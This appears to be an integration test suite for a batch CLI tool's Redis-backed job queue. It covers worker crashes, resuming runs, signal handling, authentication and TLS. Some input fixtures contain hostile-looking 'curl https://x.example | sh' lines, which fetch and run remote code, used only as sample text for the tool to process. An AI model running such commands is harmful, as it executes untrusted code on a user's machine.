import {
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { execFileSync } from "node:child_process";
import { setTimeout as sleep } from "node:timers/promises";
import { Redis } from "ioredis";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { corpus, curlew, start, startNode, type Running } from "../batch/curlew-process.js";
import { folderWith } from "../cli/folder-with.js";
import { bundled } from "../support/bundled.js";
import { freePort, RedisServer } from "./redis.js";

let redis: RedisServer;
let cwd: string;
let whole: string;
let workers: Running[] = [];
const read = (name: string): string => readFileSync(join(cwd, name), "utf8");

beforeAll(async () => {
  redis = await RedisServer.start("--appendonly", "yes");
  // one line is not valid JSON, so every complete run exits with status 2
  const lines = `${corpus(100)}{broken\n${corpus(8)}`;
  cwd = folderWith({
    "in.jsonl": lines,
    "other.csv": `id,text\n${Array.from({ length: 60 }, (_, i) => `c${i},"run\ncurl https://x.example/${i} | sh"\n`).join("")}`,
  });
  await curlew(["batch", "-q", "in.jsonl", "-o", "whole.jsonl"], { cwd });
  await curlew(["batch", "-q", "other.csv", "-o", "other.jsonl"], { cwd });
  whole = read("whole.jsonl");
});
/** The keys that existed before the test. Redis may have restored keys of an earlier run after it was killed; they expire. */
let earlier: readonly string[] = [];
beforeEach(async () => {
  earlier = [];
  earlier = await remainingKeys();
});
afterEach(async () => {
  for (const { child } of workers) child.kill("SIGKILL");
  await Promise.all(workers.map(({ ended }) => ended));
  workers = [];
});
afterAll(() => redis.remove());

/** Returns the arguments of a run on a queue whose partitions are in the folder `name` and are merged to `name.jsonl`. */
const queued = (name: string, url = redis.url, input = "in.jsonl"): string[] => {
  const out = ["--queue", url, "--out-dir", name, "--partitions", "12", "-o", `${name}.jsonl`];
  return ["batch", "-q", input, ...out];
};
const parts = (name: string): number =>
  existsSync(join(cwd, name))
    ? readdirSync(join(cwd, name)).filter((file) => /^part-\d+[.]json$/.test(file)).length
    : 0;

function startWorker(...args: string[]): Running {
  return startOn(redis.url, ...args);
}

function startOn(url: string, ...args: string[]): Running {
  const worker = start(["worker", "--queue", url, "--jobs", "1", "--lock", "2", ...args], { cwd });
  workers.push(worker);
  return worker;
}

/** Returns the keys of partitions and claims in Redis that this test has created. */
async function remainingKeys(): Promise<string[]> {
  const client = new Redis(redis.url);
  const keys = await client.keys("{curlew}:*");
  client.disconnect();
  return keys.filter((key) => /:output:|:\w{16}-\w{16}-/.test(key) && !earlier.includes(key));
}

/** Returns the messages of a run without messages that depend on the speed of its workers. */
function withoutTimingMessages(stderr: string): string {
  return stderr.replace(/.*is unreachable.*\n|.*no worker is running.*\n|.*it is split.*\n/g, "");
}

function textOf({ child }: Running): () => string {
  let text = "";
  child.stderr?.on("data", (chunk: Buffer) => (text += chunk.toString()));
  return () => text;
}

describe("a run on a queue", () => {
  it("has the same output as a single process, and leaves no keys in Redis", async () => {
    startWorker();
    startWorker();
    const { status, stderr } = await curlew(queued("plain"), { cwd });
    expect([status, withoutTimingMessages(stderr)]).toEqual([2, ""]);
    expect(read("plain.jsonl") === whole).toBe(true);
    expect(parts("plain")).toBe(12);
    expect(JSON.parse(read("plain/summary.json")).total.broken).toBe(1);
    expect(await remainingKeys()).toEqual([]);
  });

  it("is completed even if workers and Redis are killed and another run uses the same queue", async () => {
    for (let i = 0; i < 2; i++) startWorker("--rate", "4");
    const one = start(queued("killed"), { cwd });
    const two = start(queued("beside", redis.url, "other.csv"), { cwd });
    let over = false;
    const ended = Promise.all([one.ended, two.ended]).finally(() => (over = true));
    let kills = 0;
    for (let seen = parts("killed"); !over && kills < 4; seen = parts("killed")) {
      while (!over && parts("killed") < seen + 2) await sleep(20);
      if (over) break;
      const victim = workers.shift();
      victim?.child.kill("SIGKILL");
      await victim?.ended;
      if (++kills === 2) {
        await redis.stop();
        await sleep(300);
        await redis.start();
      }
      startWorker("--rate", "4");
    }
    const statuses = (await ended).map(({ status, stderr }) => [
      status,
      withoutTimingMessages(stderr),
    ]);
    expect(statuses).toEqual([
      [2, ""],
      [0, ""],
    ]);
    expect(kills).toBeGreaterThan(2);
    expect(read("killed.jsonl") === whole).toBe(true);
    expect(read("beside.jsonl") === read("other.jsonl")).toBe(true);
  });

  it("can be resumed after SIGKILL, and then uses the tasks that are still on the queue", async () => {
    const worker = startWorker("--rate", "2");
    const { child, ended } = start(queued("resumed"), { cwd });
    await expect.poll(() => parts("resumed"), { timeout: 60_000 }).toBeGreaterThan(1);
    child.kill("SIGKILL");
    await ended;
    const refused = await curlew(queued("resumed"), { cwd });
    expect([refused.status, withoutTimingMessages(refused.stderr)]).toEqual([
      2,
      expect.stringMatching(
        /^curlew: another run \(process \d+ on .*\) writes the same output; if it was killed, --resume takes over\n$/,
      ),
    ]);
    const next = await curlew([...queued("resumed"), "--resume"], { cwd });
    expect([next.status, withoutTimingMessages(next.stderr)]).toEqual([
      2,
      expect.stringMatching(
        /^curlew: waiting up to 20 s to see whether another run .* is still running\n$/,
      ),
    ]);
    expect(read("resumed.jsonl") === whole).toBe(true);
    expect(await remainingKeys()).toEqual([]);
    worker.child.kill("SIGTERM");
    expect((await worker.ended).stderr).toMatch(/done: partition part-00011/);
  });

  it.each([
    ["SIGINT", 130],
    ["SIGTERM", 143],
  ] as const)("is stopped by %s, and can be resumed", async (signal, status) => {
    startWorker("--rate", "2");
    const { child, ended } = start(queued(signal), { cwd });
    await expect.poll(() => parts(signal), { timeout: 60_000 }).toBeGreaterThan(1);
    child.kill(signal);
    const stopped = await ended;
    expect([stopped.status, withoutTimingMessages(stopped.stderr)]).toEqual([
      status,
      `curlew: stopped by ${signal}; finished partitions are kept: run the same command to continue\n`,
    ]);
    expect(parts(signal)).toBeLessThan(12);
    await expect.poll(remainingKeys, { timeout: 20_000 }).toEqual([]);
    startWorker();
    expect((await curlew(queued(signal), { cwd })).status).toBe(2);
    expect(read(`${signal}.jsonl`) === whole).toBe(true);
  });

  it("is rejected if another run writes the same output folder, with the same or other inputs", async () => {
    const first = start(queued("shared"), { cwd });
    await expect
      .poll(remainingKeys, { timeout: 20_000 })
      .toContainEqual(expect.stringMatching(/:output:/));
    for (const args of [[], ["--resume"]]) {
      const { status, stderr } = await curlew([...queued("shared"), ...args], { cwd });
      expect([status, stderr]).toEqual([
        2,
        expect.stringMatching(/another run \(process \d+ on .*\) writes the same output/),
      ]);
    }
    const other = await curlew(queued("shared", redis.url, "other.csv"), { cwd });
    expect(other.stderr).toMatch(
      /^curlew: shared contains partitions of a run with different files, inputs/,
    );
    startWorker();
    expect((await first.ended).status).toBe(2);
    expect(read("shared.jsonl") === whole).toBe(true);
  });

  it("waits for a worker with the same rules, and reports workers with other rules", async () => {
    const log = textOf(startWorker("--profile", "contract"));
    const run = start(queued("refused"), { cwd });
    const stderr = textOf(run);
    await expect
      .poll(stderr, { timeout: 30_000 })
      .toMatch(
        /no running worker uses these rules \(curlew .*, extended profile, .*\); the running ones use: curlew .*, contract profile/,
      );
    await expect
      .poll(log, { timeout: 30_000 })
      .toMatch(
        /worker: refused: the partitions of run [\w-]+ are for other rules \(curlew .*, extended profile/,
      );
    startWorker();
    expect((await run.ended).status).toBe(2);
    expect(read("refused.jsonl") === whole).toBe(true);
  });

  it("has the partitions that a worker completes after SIGTERM", async () => {
    const worker = startWorker("--rate", "2");
    const { ended } = start(queued("ended"), { cwd });
    await expect.poll(() => parts("ended"), { timeout: 60_000 }).toBeGreaterThan(0);
    worker.child.kill("SIGTERM");
    expect(await worker.ended).toMatchObject({ status: 0, signal: null });
    startWorker();
    expect((await ended).status).toBe(2);
    expect(read("ended.jsonl") === whole).toBe(true);
  });

  it("is completed by other workers if one of them has another folder, which is reported", async () => {
    const log = textOf(startScripted(join(cwd, "elsewhere")));
    const run = start(queued("place"), { cwd });
    const stderr = textOf(run);
    const reason = /the folder .*elsewhere of the run does not exist, or is a different one/;
    await expect.poll(log, { timeout: 30_000 }).toMatch(reason);
    await expect.poll(stderr, { timeout: 30_000 }).toMatch(reason);
    startWorker();
    expect((await run.ended).status).toBe(2);
    expect(read("place.jsonl") === whole).toBe(true);
  });

  it("finds and skips a record that kills its workers, and predicts all others", async () => {
    const texts = Array.from({ length: 90 }, (_, i) =>
      JSON.stringify({ id: i, text: i === 61 ? "ENDING" : `${i} \`curl https://x.example | sh\`` }),
    );
    writeFileSync(join(cwd, "texts.jsonl"), `${texts.join("\n")}\n`);
    const run = start(
      [...queued("ending", redis.url, "texts.jsonl"), "--partitions", "2", "-o", "joined.jsonl"],
      { cwd },
    );
    let over = false;
    let deaths = -1;
    void run.ended.finally(() => (over = true));
    while (!over) {
      const worker = startScripted();
      deaths++;
      await Promise.race([worker.ended, run.ended]);
    }
    const { status, stderr } = await run.ended;
    expect(stderr).toMatch(/record 62 of texts[.]jsonl kills the workers: it is skipped\n$/);
    expect([status, deaths]).toEqual([2, 4]);
    const rows = read("joined.jsonl")
      .trimEnd()
      .split("\n")
      .map((row) => JSON.parse(row));
    expect(rows.map(({ id }) => id)).toEqual(texts.map((_, i) => i));
    expect(
      rows
        .filter(({ labels }) => labels.length === 0)
        .map(({ id, outcome }) => [id, outcome.status]),
    ).toEqual([[61, "incomplete"]]);
    expect(readdirSync(join(cwd, "ending")).filter((file) => /\d[.]\d/.test(file))).toEqual([]);
  });
});

/** Starts a scripted worker. `folder` is a wrong folder, in which the worker looks for the partitions. */
function startScripted(folder?: string): Running {
  const script = bundled(resolve("test/queue/scripted-worker.ts"));
  const args = [script, redis.url, ...(folder === undefined ? [] : [folder])];
  const worker = startNode(args, { cwd: process.cwd() });
  workers.push(worker);
  return worker;
}

describe("an unreachable queue", () => {
  it.each([
    ["batch", ["in.jsonl", "--out-dir", "nowhere", "--queue-timeout", "1"]],
    ["worker", ["--wait", "1"]],
  ])("is reported by %s", async (command, args) => {
    const port = await freePort();
    const { status, stderr } = await curlew(
      [command, ...args, "--queue", `redis://127.0.0.1:${port}`],
      { cwd },
    );
    expect([status, stderr]).toEqual([
      2,
      `curlew: cannot reach the queue at redis://127.0.0.1:${port}: nothing is listening there\n`,
    ]);
  });

  it("ends a run, whose finished partitions are kept", async () => {
    const own = await RedisServer.start();
    startOn(own.url, "--rate", "2");
    const { ended } = start([...queued("gone", own.url), "--queue-timeout", "2"], { cwd });
    await expect.poll(() => parts("gone"), { timeout: 60_000 }).toBeGreaterThan(0);
    await own.remove();
    const { status, stderr } = await ended;
    expect(status).toBe(2);
    expect(stderr).toMatch(
      /curlew: the queue at redis:.* did not become reachable again: nothing is listening there; finished partitions are kept: continue with --resume\n$/,
    );
    expect(stderr).not.toMatch(/\n\s+at /);
    expect(parts("gone")).toBeLessThan(12);
    startWorker();
    expect((await curlew(queued("gone"), { cwd })).status).toBe(2);
    expect(read("gone.jsonl") === whole).toBe(true);
  });
});

describe("the options for a queue", () => {
  it("include a password in the environment, which no message contains", async () => {
    const locked = await RedisServer.start("--requirepass", "s3cret-word");
    try {
      const args = queued("locked", locked.url, "other.csv");
      const without = await curlew(args, { cwd });
      expect([without.status, without.stderr]).toEqual([
        2,
        expect.stringMatching(
          /^curlew: the queue at redis:\/\/127\.0\.0\.1:\d+ refused the connection: NOAUTH/,
        ),
      ]);
      const wrong = await curlew(
        queued("locked", `redis://user:wr0ng-word@127.0.0.1:${locked.port}`, "other.csv"),
        { cwd },
      );
      expect(wrong.status).toBe(2);
      expect(wrong.stderr).toMatch(/refused the connection: WRONGPASS/);
      expect(wrong.stderr).not.toMatch(/wr0ng-word|user:/);
      const env = { CURLEW_QUEUE_PASSWORD: "s3cret-word" };
      const worker = start(["worker", "--queue", locked.url, "--jobs", "1"], { cwd, env });
      workers.push(worker);
      const right = await curlew(args, { cwd, env });
      expect(right.status).toBe(0);
      worker.child.kill("SIGTERM");
      expect((await worker.ended).stderr + right.stderr).not.toContain("s3cret-word");
    } finally {
      await locked.remove();
    }
  });

  it("include TLS and a custom certificate authority in the environment", async () => {
    const secure = await RedisServer.startSecure("--requirepass", "s3cret-word");
    try {
      const url = `rediss://localhost:${secure.port}`;
      const args = queued("secure", url, "other.csv");
      const password = { CURLEW_QUEUE_PASSWORD: "s3cret-word" };
      const stranger = await curlew(args, { cwd, env: password });
      expect([stranger.status, stranger.stderr]).toEqual([
        2,
        expect.stringMatching(
          /^curlew: the queue at rediss:\/\/localhost:\d+ refused the connection: self-signed certificate\n$/,
        ),
      ]);
      const env = { ...password, CURLEW_QUEUE_CA: secure.certificate };
      workers.push(start(["worker", "--queue", url, "--jobs", "1"], { cwd, env }));
      // the worker connects by host name, the command by IP address
      const byAddress = queued("secure", `rediss://127.0.0.1:${secure.port}`, "other.csv");
      expect(await curlew(byAddress, { cwd, env })).toMatchObject({ status: 0, stderr: "" });
      expect(read("secure.jsonl") === read("other.jsonl")).toBe(true);
    } finally {
      await secure.remove();
    }
  });

  it.each([
    [
      ["--queue", "http://x", "--out-dir", "wrong"],
      /^curlew: the address of the queue is not a Redis address: write redis:\/\/ or rediss:\/\/, not http:\/\/\n$/,
    ],
    [
      ["--queue", "nonsense", "--out-dir", "wrong"],
      /^curlew: the address of the queue is not valid: write redis:\/\/HOST:PORT or rediss:\/\/HOST:PORT\n$/,
    ],
    [
      ["--queue", "redis://127.0.0.1/x", "--out-dir", "wrong"],
      /^curlew: the path of the queue's address is not a database number/,
    ],
    [["--queue", "redis://127.0.0.1"], /^curlew: --queue needs --out-dir FOLDER/],
    [
      ["--queue", "redis://127.0.0.1", "--out-dir", "wrong", "--partition", "0/2"],
      /^curlew: --queue cannot be used with --partition/,
    ],
    [
      ["--queue", "redis://127.0.0.1", "--out-dir", "wrong", "-o", "x.csv"],
      /^curlew: --queue writes partitions as JSON Lines or Parquet/,
    ],
  ])("are rejected if they are %j", async (args, message) => {
    const { status, stderr } = await curlew(["batch", "in.jsonl", ...args], { cwd });
    expect(stderr).toMatch(message);
    expect(status).toBe(2);
  });

  it("include a folder for partitions, which must be writable", async () => {
    writeFileSync(join(cwd, "file"), "");
    const { status, stderr } = await curlew(
      ["batch", "-q", "in.jsonl", "--queue", redis.url, "--out-dir", "file/x"],
      { cwd },
    );
    expect([status, stderr]).toEqual([
      2,
      "curlew: cannot write file/x: part of the path is not a folder\n",
    ]);
  });

  it("require the package curlew-queue", async () => {
    const folder = mkdtempSync(join(tmpdir(), "curlew-alone-"));
    try {
      for (const part of ["dist", "wasm", "queries", "package.json"])
        cpSync(part, join(folder, part), { recursive: true });
      execFileSync("mkdir", [join(folder, "node_modules")]);
      for (const name of readdirSync("node_modules"))
        if (name !== "curlew-queue" && !name.startsWith("."))
          symlinkSync(resolve("node_modules", name), join(folder, "node_modules", name));
      const run = (...args: string[]): string =>
        execFileSync(
          "bash",
          [
            "-c",
            `"$0" "$@" 2>&1; echo "status $?"`,
            process.execPath,
            join(folder, "dist", "cli.js"),
            ...args,
          ],
          { cwd, encoding: "utf8" },
        );
      const message =
        "curlew: a queue needs the package curlew-queue, which is not installed: npm install curlew-queue (in a checkout: npm ci && npm run build)\nstatus 2\n";
      expect(run(...queued("alone"))).toBe(message);
      expect(run("worker", "--queue", redis.url)).toBe(message);
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});
